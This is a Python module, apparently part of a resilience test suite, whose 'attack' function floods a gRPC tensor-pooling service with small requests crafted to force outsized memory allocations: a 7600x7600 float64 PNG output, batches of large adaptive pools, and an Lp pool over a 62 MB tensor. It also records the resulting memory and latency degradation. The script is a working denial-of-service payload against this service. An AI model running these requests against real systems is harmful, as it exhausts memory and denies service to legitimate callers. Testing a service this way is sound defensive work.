"""Small requests with large results: the memory that they need is many times their size.

155 bytes ask for 7,600 by 7,600 means as float64 and for their PNG file; a batch of 700 bytes asks for eight results of
61 MB; 62 MB of bytes become four times as many bytes of float32 for a power average.
"""

from typing import Any

from poolservice.v1 import pool_pb2 as pb
from repeated_calls import repeat_calls
from target import Target

FLAGS: tuple[str, ...] = ()
BEFORE = "3.8 GB at most, 519 MB kept; health waits for 1.3 s, p99 of good callers 2.1 s"

_OPTIONS = (("grpc.max_receive_message_length", -1), ("grpc.max_send_message_length", -1))
_PATIENCE_SECONDS = 5.0
_CALLERS = 6


async def attack(target: Target, seconds: float) -> str:
    """Send the three kinds of requests side by side, two callers for each."""

    async def call(stub: Any, caller: int) -> pb.PoolResponse | pb.PoolBatchResponse:
        response: pb.PoolResponse | pb.PoolBatchResponse
        if caller % 3 == 2:
            response = await stub.PoolBatch(_batch(), timeout=_PATIENCE_SECONDS)
        else:
            request = _power_average() if caller % 3 else _adaptive_png()
            response = await stub.Pool(request, timeout=_PATIENCE_SECONDS)
        return response

    return await repeat_calls(target, seconds, call, callers=_CALLERS, options=_OPTIONS)


def _adaptive(size: int, dtype: "pb.DataType.ValueType", itemsize: int) -> pb.PoolRequest:
    spec = pb.PoolSpec(spatial_dims=2, adaptive_avg_pool=pb.AdaptiveAvgPool(output_size=[size]))
    return pb.PoolRequest(specs=[spec], tensor=pb.Tensor(dtype=dtype, shape=[1, 2, 2], data=bytes(4 * itemsize)))


def _adaptive_png() -> pb.PoolRequest:
    request = _adaptive(7600, pb.DATA_TYPE_FLOAT64, 8)
    request.output.format = pb.OUTPUT_FORMAT_IMAGE
    return request


def _batch() -> pb.PoolBatchRequest:
    return pb.PoolBatchRequest(requests=[_adaptive(3900, pb.DATA_TYPE_FLOAT32, 4)] * 8)


def _power_average() -> pb.PoolRequest:
    spec = pb.PoolSpec(spatial_dims=2, lp_pool=pb.LpPool(norm_type=1.5, kernel_size=[2]))
    size = 7_800
    tensor = pb.Tensor(dtype=pb.DATA_TYPE_UINT8, shape=[1, size, size], data=bytes(size * size))
    return pb.PoolRequest(specs=[spec], tensor=tensor)
